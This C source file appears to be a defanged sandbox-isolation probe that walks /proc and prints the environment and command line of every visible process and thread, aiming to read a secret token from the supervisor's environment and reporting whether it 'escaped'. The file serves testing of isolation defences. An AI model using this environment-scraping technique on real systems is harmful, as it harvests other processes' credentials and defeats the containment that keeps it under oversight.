/* proc_environ: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F10: other processes' environments (and our own). Reads /proc/<pid>/environ and cmdline for every
 * visible pid and task, plus the supervisor and runner pids passed in, and our own environ. The
 * supervisor's environment holds the secret token. */
static int hits;
static void env_of(const char *pid)
{
    char p[300];
    snprintf(p, sizeof p, "/proc/%s/environ", pid);
    long n = dump_path(p, 2000);
    if (n > 0 && strcmp(pid, "self")) hits++;
    snprintf(p, sizeof p, "/proc/%s/cmdline", pid); dump_path(p, 200);
}
int main(int argc, char **argv, char **envp)
{
    const char *sup = argc > 1 ? argv[1] : "0";
    const char *runner = argc > 2 ? argv[2] : "0";
    if (argc > 3) NONCE = argv[3];
    printf("own environment:\n");
    for (int i = 0; envp[i] && i < 200; i++) { printf("  "); show(envp[i], strlen(envp[i]), 600); }
    env_of("self");
    env_of(sup);
    env_of(runner);
    char pp[32]; snprintf(pp, sizeof pp, "%d", getppid()); env_of(pp);
    env_of("1");
    DIR *d = opendir("/proc");
    if (d) {
        struct dirent *e; int n = 0;
        while ((e = readdir(d)) && n < 150) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
            n++;
            env_of(e->d_name);
            char td[300]; snprintf(td, sizeof td, "/proc/%s/task", e->d_name);
            DIR *t = opendir(td);
            if (t) { struct dirent *te; int k = 0; while ((te = readdir(t)) && k++ < 8) { if (te->d_name[0] < '1' || te->d_name[0] > '9') continue; char tp[300]; snprintf(tp, sizeof tp, "/proc/%s/task/%s/environ", e->d_name, te->d_name); dump_path(tp, 300); } closedir(t); }
        }
        closedir(d);
    }
    report(hits > 0, "other-process-environ-read(%d)", hits);
    usleep(400000);
    return 0;
}
